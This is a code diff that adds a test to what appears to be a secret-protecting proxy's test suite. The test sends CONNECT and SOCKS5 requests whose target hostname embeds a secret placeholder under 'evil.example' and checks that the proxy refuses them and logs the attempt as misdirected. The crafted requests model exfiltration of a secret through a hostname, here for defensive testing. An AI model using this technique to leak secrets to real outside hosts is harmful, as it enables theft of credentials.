@@ -279,6 +279,30 @@ class PlaceholderTest(InspectRig, ProxyTestCase):
         line = p.wait_log(kind="http", count=1)[0].obj
         self.assertEqual((line["class"], line["secret"]), ("secret misdirected", "api"))
 
+    def test_a_placeholder_in_a_tunnels_target_name_is_misdirected_before_any_lookup(self):
+        p = self.start()
+        target = f"{p.placeholders['api']}.evil.example:443"
+        s = p.connect()
+        try:
+            s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+            answer = recv_all(s, timeout=5)
+        finally:
+            s.close()
+        self.assertTrue(answer.startswith(b"HTTP/1.1 403"), answer[:200])
+        line = p.wait_log(kind="connect", count=1)[0].obj
+        self.assertEqual((line["class"], line["secret"]), ("secret misdirected", "api"))
+        # SOCKS5 (socks5h: the name goes to the proxy): reply 2, not allowed.
+        name = f"{p.placeholders['api']}.evil.example".encode()
+        s = p.connect()
+        try:
+            s.sendall(b"\x05\x01\x00")
+            self.assertEqual(recv_exact(s, 2), b"\x05\x00")
+            s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
+            self.assertEqual(recv_exact(s, 2), b"\x05\x02")
+        finally:
+            s.close()
+        self.assertEqual(p.wait_log(kind="socks", count=1)[0].obj["secret"], "api")
+
 
 # In the box: what it may learn of the secret, one line each (a value found prints FOUND).
 BOX_LOOK = textwrap.dedent("""
